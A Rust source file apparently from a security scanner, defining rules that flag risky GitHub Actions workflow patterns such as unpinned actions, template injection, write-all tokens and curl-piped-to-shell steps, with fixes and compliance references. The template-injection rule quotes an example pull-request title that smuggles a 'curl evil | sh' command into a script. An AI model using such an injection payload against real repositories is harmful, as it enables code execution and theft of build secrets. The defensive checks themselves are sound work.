//! GitHub Actions: pinning of actions, privileged triggers, template injection,
//! permissions, runners and secrets.

use super::{found, is_sha, literal_secret, pipe_to_shell, secret_name, security_scan_name};
use crate::model::{Attr, Resource, Value};
use crate::rule::{Context, Rule, RuleDef, Verdict, Violation};
use tollgate_core::Severity;

const HARDEN: &str = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions";
const JOB: &[&str] = &["github/job"];
const BOTH: &[&str] = &["github/workflow", "github/job"];

pub fn rules() -> Vec<Rule> {
    vec![
        Rule {
            def: RuleDef {
                slug: "ci/github-unpinned-action",
                title: "Third-party action not pinned to a commit SHA",
                severity: Severity::High,
                cwe: &[1104, 829],
                tags: &["supply-chain", "ci-hardening", "github"],
                types: JOB,
                finds: "A step's or a job's `uses:` of an action or reusable workflow outside the `actions` and `github` organisations whose ref is not a full 40-hex commit SHA (a tag or a branch), or a `docker://` image without a `@sha256:` digest. Local `./` actions are fine.",
                why: "A tag or branch can be moved by the action's owner, or by whoever compromises their account, to code that reads the job's secrets and tokens: the deploy keys, registry credentials and cloud roles of a payment system. Pinning is the supply-chain control PCI DSS 6.3 and DORA's third-party ICT risk requirements expect for code run in the build.",
                fix: "Pin to the full commit SHA of the reviewed release, with the version in a comment (`uses: owner/action@<sha> # v1.2.3`), and let Dependabot or Renovate propose updates.",
                references: &[HARDEN, "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idstepsuses"],
                aliases: &[],
            },
            check: |r, _| unpinned(r, false),
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-unpinned-github-action",
                title: "GitHub-owned action not pinned to a commit SHA",
                severity: Severity::Low,
                cwe: &[1104],
                tags: &["supply-chain", "ci-hardening", "github"],
                types: JOB,
                finds: "A `uses:` of an action of the `actions` or `github` organisation (owned by GitHub) whose ref is not a full 40-hex commit SHA.",
                why: "GitHub's own actions are lower risk, but a moved tag still changes what runs in the pipeline without review; a change-management audit (SOX, PCI DSS 6) asks for builds that are reproducible from the reviewed definition.",
                fix: "Pin to the full commit SHA with the version in a comment.",
                references: &[HARDEN],
                aliases: &[],
            },
            check: |r, _| unpinned(r, true),
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-pr-target-checkout",
                title: "Privileged workflow checks out pull request code",
                severity: Severity::High,
                cwe: &[829, 284],
                tags: &["ci-hardening", "supply-chain", "github"],
                types: JOB,
                finds: "A job of a workflow triggered by `pull_request_target` or `workflow_run` that checks out the pull request's head (`actions/checkout` with `ref:` of `github.event.pull_request.head.sha`/`head.ref`, `github.head_ref` or the `workflow_run` head), or fetches it in `run:`.",
                why: "These triggers run with the repository's secrets and a write token; checking out and building the contributor's code hands both to anyone who opens a pull request from a fork. This is the classic path to stolen release credentials and poisoned artifacts, a software-supply-chain incident DORA requires to be reported.",
                fix: "Use the `pull_request` trigger for building untrusted code; if a privileged follow-up is needed, pass results as artifacts to a separate `workflow_run` job that never executes the PR's code.",
                references: &["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/", HARDEN],
                aliases: &[],
            },
            check: pr_target_checkout,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-template-injection",
                title: "Untrusted event data expanded into a script",
                severity: Severity::High,
                cwe: &[94, 78],
                tags: &["ci-hardening", "github"],
                types: JOB,
                finds: "A `run:` script (or an `actions/github-script` `script:`) that expands `${{ … }}` of attacker-controlled event fields: issue, pull request, discussion and review titles and bodies, comment bodies, commit messages and author names or emails, head branch names and labels, wiki page names.",
                why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh; #` runs the attacker's commands with the job's secrets and token. Anyone on the internet can open an issue: this is remote code execution in the build system that produces what runs in production.",
                fix: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}` and `\"$TITLE\"` in the script), which the shell does not re-parse.",
                references: &[HARDEN, "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"],
                aliases: &["CKV_GHA_2"],
            },
            check: injection,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-write-all-permissions",
                title: "Token with write-all, or unrestricted on a privileged trigger",
                severity: Severity::Medium,
                cwe: &[250, 269],
                tags: &["least-privilege", "ci-hardening", "github"],
                types: JOB,
                finds: "A job whose `GITHUB_TOKEN` permissions are `write-all` (its own or the workflow's), or that sets no permissions at all (neither it nor the workflow) while the workflow runs on `pull_request_target`, `issue_comment`, `workflow_run`, `issues`, `discussion_comment` or `pull_request_review_comment`, which outsiders can trigger.",
                why: "A write token lets a compromised step push code, create releases and change workflows: the integrity of the source and the build is gone. Least privilege for automated accounts is a PCI DSS 7 and SOX change-control expectation.",
                fix: "Set `permissions:` at the top of the workflow (`contents: read`) and grant each job only the scopes it needs.",
                references: &["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"],
                aliases: &["CKV2_GHA_1"],
            },
            check: write_all,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-missing-permissions",
                title: "Workflow without top-level permissions",
                severity: Severity::Low,
                cwe: &[250],
                tags: &["least-privilege", "ci-hardening", "github"],
                types: &["github/workflow"],
                finds: "A workflow with no top-level `permissions:` in which some job sets none either, so the token gets the repository's or organisation's default (often read-write).",
                why: "The token's power then depends on a setting outside the repository that can change without review; an auditor cannot tell from the code what the build can do (SOX change control, PCI DSS 7).",
                fix: "Add `permissions: contents: read` at the top and widen per job.",
                references: &["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"],
                aliases: &[],
            },
            check: missing_permissions,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-secrets-inherit",
                title: "Reusable workflow inherits every secret",
                severity: Severity::Low,
                cwe: &[200, 284],
                tags: &["secret", "least-privilege", "ci-hardening", "github"],
                types: JOB,
                finds: "A job calling a reusable workflow with `secrets: inherit`.",
                why: "Every secret of the repository and organisation reaches the called workflow, whatever it needs: a change there (or its compromise) can use production credentials the caller never meant to share. PCI DSS 7 and 8 want credentials given by need.",
                fix: "Pass the secrets the called workflow declares, one by one, under `secrets:`.",
                references: &["https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow"],
                aliases: &[],
            },
            check: secrets_inherit,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-self-hosted-pull-request",
                title: "Self-hosted runner used for pull requests",
                severity: Severity::Medium,
                cwe: &[284, 829],
                tags: &["ci-hardening", "network-exposure", "github"],
                types: JOB,
                finds: "A job with `runs-on` including `self-hosted` in a workflow triggered by `pull_request` or `pull_request_target`, so code from a fork can run on the organisation's machine.",
                why: "A self-hosted runner sits inside the firm's network and keeps state between jobs: a fork's pull request can plant a backdoor on it, reach internal systems and read later jobs' secrets. Segmentation of build systems from the cardholder-data environment (PCI DSS 1) and DORA's ICT security require untrusted code to run elsewhere.",
                fix: "Run pull request jobs on GitHub-hosted or ephemeral, isolated runners; require approval for fork workflows.",
                references: &["https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security"],
                aliases: &[],
            },
            check: self_hosted,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-unsecure-commands",
                title: "Deprecated workflow commands re-enabled",
                severity: Severity::High,
                cwe: &[94],
                tags: &["ci-hardening", "github"],
                types: BOTH,
                finds: "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` in a workflow's, job's or step's `env`.",
                why: "It re-enables the `set-env` and `add-path` log commands, with which any text printed to the log (an issue title, a dependency's output) can set environment variables and the PATH of later steps: code execution in the pipeline.",
                fix: "Remove the variable; write to `$GITHUB_ENV` and `$GITHUB_PATH` instead.",
                references: &["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"],
                aliases: &["CKV_GHA_1"],
            },
            check: unsecure_commands,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-hardcoded-credentials",
                title: "Credential written in a workflow",
                severity: Severity::High,
                cwe: &[798],
                tags: &["secret", "ci-hardening", "github"],
                types: BOTH,
                finds: "An `env:` entry (workflow, job or step) or a `with:` input, a container's or service's `credentials.password`, whose name says it holds a credential and whose value is a literal rather than `${{ secrets.… }}`. The message names the key, never the value.",
                why: "A credential in a workflow file is in every clone and fork of the repository and cannot be rotated without a commit; PCI DSS 8 and 3 require credentials protected and rotated, and a leaked one is an incident to report.",
                fix: "Store it as an encrypted secret (or use OIDC federation instead of a long-lived key) and reference `${{ secrets.NAME }}`; rotate the exposed value.",
                references: &["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"],
                aliases: &[],
            },
            check: hardcoded,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-curl-pipe-shell",
                title: "Script downloaded and piped into a shell",
                severity: Severity::Medium,
                cwe: &[494, 829],
                tags: &["supply-chain", "ci-hardening", "github"],
                types: JOB,
                finds: "A `run:` line that pipes `curl`, `wget` or `Invoke-WebRequest` output straight into `sh`, `bash`, `python` or another interpreter.",
                why: "Whatever the server returns at that moment runs in the build, with its secrets, unverified: a compromised download site becomes a compromised release. Integrity checks of third-party code are a PCI DSS 6 and DORA supply-chain expectation.",
                fix: "Download to a file, verify its checksum or signature, then run it; better, use a pinned package or action.",
                references: &[HARDEN],
                aliases: &[],
            },
            check: curl_pipe,
        },
        Rule {
            def: RuleDef {
                slug: "ci/github-security-scan-continue-on-error",
                title: "Security scan step allowed to fail",
                severity: Severity::Low,
                cwe: &[693],
                tags: &["ci-hardening", "github"],
                types: JOB,
                finds: "A step (or a job) named or built like a security scan (CodeQL, Trivy, Snyk, Semgrep, Gitleaks, Tollgate, audit, SAST…) with `continue-on-error: true`.",
                why: "The scan then never stops a build: vulnerable or secret-leaking code ships while the pipeline shows green, and the control the auditor was told about (PCI DSS 6.3, secure SDLC under DORA) does not operate.",
                fix: "Remove `continue-on-error`; handle accepted findings with the scanner's own baseline or suppression, which leaves a reviewed record.",
                references: &["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idstepscontinue-on-error"],
                aliases: &[],
            },
            check: scan_continue,
        },
    ]
}

/// The steps of a job, with their index.
fn steps(r: &Resource) -> Vec<(usize, &Attr)> {
    match found(r.get("steps")) {
        Some(a) => a.items().into_iter().enumerate().collect(),
        None => Vec::new(),
    }
}

fn str_of<'a>(a: &'a Attr, key: &str) -> Option<&'a str> {
    found(a.lookup(key)).and_then(Attr::as_str)
}

/// The events a workflow runs on.
fn triggers(r: &Resource) -> Vec<String> {
    let Some(on) = found(r.get("workflow_on")).or_else(|| found(r.get("on"))) else {
        return Vec::new();
    };
    match &on.value {
        Value::String(s) => vec![s.clone()],
        Value::List(l) => l
            .iter()
            .filter_map(|x| x.as_str().map(String::from))
            .collect(),
        Value::Map(m) => m.keys().cloned().collect(),
        _ => Vec::new(),
    }
}

fn fails(v: Vec<Violation>) -> Verdict {
    if v.is_empty() {
        Verdict::Pass
    } else {
        Verdict::Fail(v)
    }
}

/// `uses` values of the job (a reusable workflow) and its steps, with their paths.
fn uses(r: &Resource) -> Vec<(String, &Attr)> {
    let mut out = Vec::new();
    if let Some(u) = found(r.get("uses")) {
        out.push(("uses".to_string(), u));
    }
    for (i, s) in steps(r) {
        if let Some(u) = found(s.lookup("uses")) {
            out.push((format!("steps.{i}.uses"), u));
        }
    }
    out
}

fn unpinned(r: &Resource, github_owned: bool) -> Verdict {
    let mut v = Vec::new();
    for (path, a) in uses(r) {
        let Some(u) = a.as_str() else { continue };
        let u = u.trim();
        if u.starts_with("./") || u.starts_with(".\\") {
            continue;
        }
        if let Some(img) = u.strip_prefix("docker://") {
            if !github_owned && !crate::rules::kubernetes::has_digest(img) {
                v.push(Violation::at(
                    a,
                    &path,
                    format!("`{u}` is a container image without a `@sha256:` digest"),
                ));
            }
            continue;
        }
        let owner = u.split('/').next().unwrap_or("").to_ascii_lowercase();
        let by_github = owner == "actions" || owner == "github";
        if by_github != github_owned {
            continue;
        }
        let (name, git_ref) = u.rsplit_once('@').unwrap_or((u, ""));
        if !is_sha(git_ref) {
            let what = if git_ref.is_empty() {
                "no ref".to_string()
            } else {
                format!("`{git_ref}`, not a commit SHA")
            };
            v.push(Violation::at(
                a,
                &path,
                format!("`{name}` is pinned to {what}"),
            ));
        }
    }
    fails(v)
}

/// Expressions naming the pull request's (or triggering run's) head.
const HEAD_REFS: &[&str] = &[
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.merge_commit_sha",
    "github.head_ref",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_repository",
    "refs/pull/",
];

fn names_head(s: &str) -> bool {
    let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    HEAD_REFS.iter().any(|h| s.contains(h))
}

fn pr_target_checkout(r: &Resource, _: &Context<'_>) -> Verdict {
    let t = triggers(r);
    if !t
        .iter()
        .any(|x| x == "pull_request_target" || x == "workflow_run")
    {
        return Verdict::Pass;
    }
    let mut v = Vec::new();
    for (i, s) in steps(r) {
        let is_checkout = str_of(s, "uses")
            .is_some_and(|u| u.to_ascii_lowercase().starts_with("actions/checkout@"));
        if is_checkout {
            for key in ["with.ref", "with.repository"] {
                if let Some(a) = found(s.lookup(key)) {
                    if a.as_str().is_some_and(names_head) {
                        v.push(Violation::at(
                            a,
                            &format!("steps.{i}.{key}"),
                            "checks out the pull request's code in a privileged workflow (pull_request_target/workflow_run)",
                        ));
                        break;
                    }
                }
            }
        }
        if let Some(run) = found(s.lookup("run")) {
            let text = run.as_str().unwrap_or_default();
            let git = text.contains("git checkout")
                || text.contains("git fetch")
                || text.contains("gh pr checkout")
                || text.contains("git switch");
            if git && (names_head(text) || text.contains("gh pr checkout")) {
                v.push(Violation::at(
                    run,
                    &format!("steps.{i}.run"),
                    "fetches the pull request's code in a privileged workflow (pull_request_target/workflow_run)",
                ));
            }
        }
    }
    fails(v)
}

/// Event fields anyone can write.
fn untrusted(expr: &str) -> Option<String> {
    for tok in expr.split(|c: char| !(c.is_ascii_alphanumeric() || "._-*[]'\"".contains(c))) {
        let t: String = tok
            .chars()
            .filter(|c| !"'\"".contains(*c))
            .collect::<String>()
            .to_ascii_lowercase();
        if t == "github.head_ref" {
            return Some(t);
        }
        let Some(rest) = t.strip_prefix("github.event.") else {
            continue;
        };
        const FIELDS: &[&str] = &[
            ".title",
            ".body",
            ".message",
            ".head_ref",
            ".head.ref",
            ".head.label",
            ".head_branch",
            ".page_name",
            ".author.email",
            ".author.name",
            ".committer.email",
            ".committer.name",
            ".default_branch",
            ".head.repo.default_branch",
        ];
        let r = format!(".{rest}");
        if FIELDS.iter().any(|f| r.ends_with(f)) {
            return Some(t);
        }
    }
    None
}

/// The untrusted expressions of a script.
fn injected(script: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = script;
    while let Some(at) = rest.find("${{") {
        let after = &rest[at + 3..];
        let end = after.find("}}").unwrap_or(after.len());
        if let Some(t) = untrusted(&after[..end]) {
            if !out.contains(&t) {
                out.push(t);
            }
        }
        rest = &after[end..];
        if out.len() > 20 {
            break;
        }
    }
    out
}

fn injection(r: &Resource, _: &Context<'_>) -> Verdict {
    let mut v = Vec::new();
    for (i, s) in steps(r) {
        let mut check = |a: &Attr, path: String, what: &str| {
            let found = injected(a.as_str().unwrap_or_default());
            if !found.is_empty() {
                v.push(Violation::at(
                    a,
                    &path,
                    format!(
                        "{what} expands {} directly: pass it through `env:` instead",
                        found
                            .iter()
                            .map(|f| format!("`{f}`"))
                            .collect::<Vec<_>>()
                            .join(", ")
                    ),
                ));
            }
        };
        if let Some(run) = found(s.lookup("run")) {
            check(run, format!("steps.{i}.run"), "the `run:` script");
        }
        let gh_script = str_of(s, "uses")
            .is_some_and(|u| u.to_ascii_lowercase().starts_with("actions/github-script@"));
        if gh_script {
            if let Some(sc) = found(s.lookup("with.script")) {
                check(
                    sc,
                    format!("steps.{i}.with.script"),
                    "the github-script `script:`",
                );
            }
        }
    }
    fails(v)
}

const OUTSIDER_TRIGGERS: &[&str] = &[
    "pull_request_target",
    "issue_comment",
    "workflow_run",
    "issues",
    "discussion_comment",
    "pull_request_review_comment",
];

fn write_all(r: &Resource, _: &Context<'_>) -> Verdict {
    for key in ["permissions", "workflow_permissions"] {
        if let Some(a) = found(r.get(key)) {
            if a.as_str() == Some("write-all") {
                return Verdict::fail(Violation::at(
                    a,
                    key,
                    "the token has `permissions: write-all`",
                ));
            }
            if key == "permissions" {
                return Verdict::Pass;
            }
        }
    }
    if found(r.get("workflow_permissions")).is_some() {
        return Verdict::Pass;
    }
    let t = triggers(r);
    match t.iter().find(|x| OUTSIDER_TRIGGERS.contains(&x.as_str())) {
        Some(trigger) => Verdict::fail(Violation::missing(
            "permissions",
            format!("no `permissions:` on the job or the workflow, which outsiders can trigger (`{trigger}`): the token gets the default, often read-write"),
        )),
        None => Verdict::Pass,
    }
}

fn missing_permissions(r: &Resource, ctx: &Context<'_>) -> Verdict {
    if found(r.get("permissions")).is_some() {
        return Verdict::Pass;
    }
    let prefix = format!("{}:jobs.", r.address);
    let open: Vec<&str> = ctx
        .model
        .of_type("github/job")
        .filter(|j| j.address.starts_with(&prefix))
        .filter(|j| found(j.get("permissions")).is_none())
        .map(|j| &j.address[prefix.len()..])
        .collect();
    if open.is_empty() {
        return Verdict::Pass;
    }
    Verdict::fail(Violation::missing(
        "permissions",
        format!(
            "no top-level `permissions:` and job(s) {} set none either",
            open.iter()
                .take(5)
                .map(|j| format!("`{j}`"))
                .collect::<Vec<_>>()
                .join(", ")
        ),
    ))
}

fn secrets_inherit(r: &Resource, _: &Context<'_>) -> Verdict {
    match found(r.get("secrets")) {
        Some(a) if a.as_str() == Some("inherit") => Verdict::fail(Violation::at(
            a,
            "secrets",
            "the reusable workflow gets every secret (`secrets: inherit`)",
        )),
        _ => Verdict::Pass,
    }
}

fn self_hosted(r: &Resource, _: &Context<'_>) -> Verdict {
    let t = triggers(r);
    if !t
        .iter()
        .any(|x| x == "pull_request" || x == "pull_request_target")
    {
        return Verdict::Pass;
    }
    let Some(a) = found(r.get("runs-on")) else {
        return Verdict::Pass;
    };
    let labels: Vec<&str> = match &a.value {
        Value::String(s) => vec![s.as_str()],
        Value::List(l) => l.iter().filter_map(Attr::as_str).collect(),
        Value::Map(m) => m
            .get("labels")
            .map(|l| l.items().into_iter().filter_map(Attr::as_str).collect())
            .unwrap_or_default(),
        _ => Vec::new(),
    };
    if labels.iter().any(|l| l.eq_ignore_ascii_case("self-hosted")) {
        Verdict::fail(Violation::at(
            a,
            "runs-on",
            "the job runs pull request code on a self-hosted runner",
        ))
    } else {
        Verdict::Pass
    }
}

/// Every `env` map of a workflow or job resource (and its steps), with paths.
fn envs(r: &Resource) -> Vec<(String, &Attr)> {
    let mut out = Vec::new();
    if let Some(e) = found(r.get("env")) {
        out.push(("env".to_string(), e));
    }
    if let Some(e) = found(r.get("container.env")) {
        out.push(("container.env".to_string(), e));
    }
    for (i, s) in steps(r) {
        if let Some(e) = found(s.lookup("env")) {
            out.push((format!("steps.{i}.env"), e));
        }
    }
    out
}

fn unsecure_commands(r: &Resource, _: &Context<'_>) -> Verdict {
    let mut v = Vec::new();
    for (path, env) in envs(r) {
        let Some(m) = env.as_map() else { continue };
        if let Some(a) = m.get("ACTIONS_ALLOW_UNSECURE_COMMANDS") {
            if a.as_bool() == Some(true) {
                v.push(Violation::at(
                    a,
                    &format!("{path}.ACTIONS_ALLOW_UNSECURE_COMMANDS"),
                    "`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `set-env`/`add-path`",
                ));
            }
        }
    }
    fails(v)
}

fn hardcoded(r: &Resource, _: &Context<'_>) -> Verdict {
    let mut maps = envs(r);
    for (i, s) in steps(r) {
        if let Some(w) = found(s.lookup("with")) {
            maps.push((format!("steps.{i}.with"), w));
        }
    }
    let mut v = Vec::new();
    for (path, m) in maps {
        let Some(m) = m.as_map() else { continue };
        for (k, a) in m {
            if secret_name(k) && a.as_str().is_some_and(literal_secret) {
                v.push(Violation::at(
                    a,
                    &format!("{path}.{k}"),
                    format!("`{k}` is a literal value, not `${{{{ secrets.… }}}}`"),
                ));
            }
        }
    }
    for base in ["container", "services"] {
        let Some(a) = found(r.get(base)) else {
            continue;
        };
        let creds: Vec<(String, &Attr)> = if base == "container" {
            found(a.lookup("credentials.password"))
                .map(|p| ("container.credentials.password".to_string(), p))
                .into_iter()
                .collect()
        } else {
            a.as_map()
                .map(|m| {
                    m.iter()
                        .filter_map(|(n, s)| {
                            found(s.lookup("credentials.password"))
                                .map(|p| (format!("services.{n}.credentials.password"), p))
                        })
                        .collect()
                })
                .unwrap_or_default()
        };
        for (path, p) in creds {
            if p.as_str().is_some_and(literal_secret) {
                v.push(Violation::at(
                    p,
                    &path,
                    format!("`{path}` is a literal value, not `${{{{ secrets.… }}}}`"),
                ));
            }
        }
    }
    fails(v)
}

fn curl_pipe(r: &Resource, _: &Context<'_>) -> Verdict {
    let mut v = Vec::new();
    for (i, s) in steps(r) {
        if let Some(run) = found(s.lookup("run")) {
            if let Some(line) = run.as_str().and_then(pipe_to_shell) {
                let mut at = run.clone();
                // A block scalar's text starts on the line after `run: |`.
                let block = u32::from(run.as_str().is_some_and(|t| t.contains('\n')));
                if run.span.line > 0 {
                    at.span.line = run.span.line + block + line as u32;
                    at.span.end_line = at.span.line;
                }
                v.push(Violation::at(
                    &at,
                    &format!("steps.{i}.run"),
                    format!("step {i}'s script pipes a download straight into an interpreter"),
                ));
            }
        }
    }
    fails(v)
}

fn scan_continue(r: &Resource, _: &Context<'_>) -> Verdict {
    let mut v = Vec::new();
    let job_name = r
        .address
        .rsplit("jobs.")
        .next()
        .unwrap_or_default()
        .to_string();
    let jn = str_of(&r.attrs, "name")
        .map(String::from)
        .unwrap_or(job_name);
    if let Some(c) = found(r.get("continue-on-error")) {
        if c.as_bool() == Some(true) && security_scan_name(&jn) {
            v.push(Violation::at(
                c,
                "continue-on-error",
                format!("the security scan job `{jn}` may fail without failing the workflow"),
            ));
        }
    }
    for (i, s) in steps(r) {
        let Some(c) = found(s.lookup("continue-on-error")) else {
            continue;
        };
        if c.as_bool() != Some(true) {
            continue;
        }
        let label = str_of(s, "name")
            .or_else(|| str_of(s, "uses"))
            .or_else(|| str_of(s, "id"))
            .or_else(|| str_of(s, "run").and_then(|r| r.lines().next()))
            .unwrap_or("?");
        let what = [
            str_of(s, "name"),
            str_of(s, "uses"),
            str_of(s, "id"),
            str_of(s, "run").and_then(|r| r.split_whitespace().next()),
        ];
        if what.iter().flatten().any(|w| security_scan_name(w)) {
            v.push(Violation::at(
                c,
                &format!("steps.{i}.continue-on-error"),
                format!("the security scan step `{label}` may fail without failing the job"),
            ));
        }
    }
    fails(v)
}
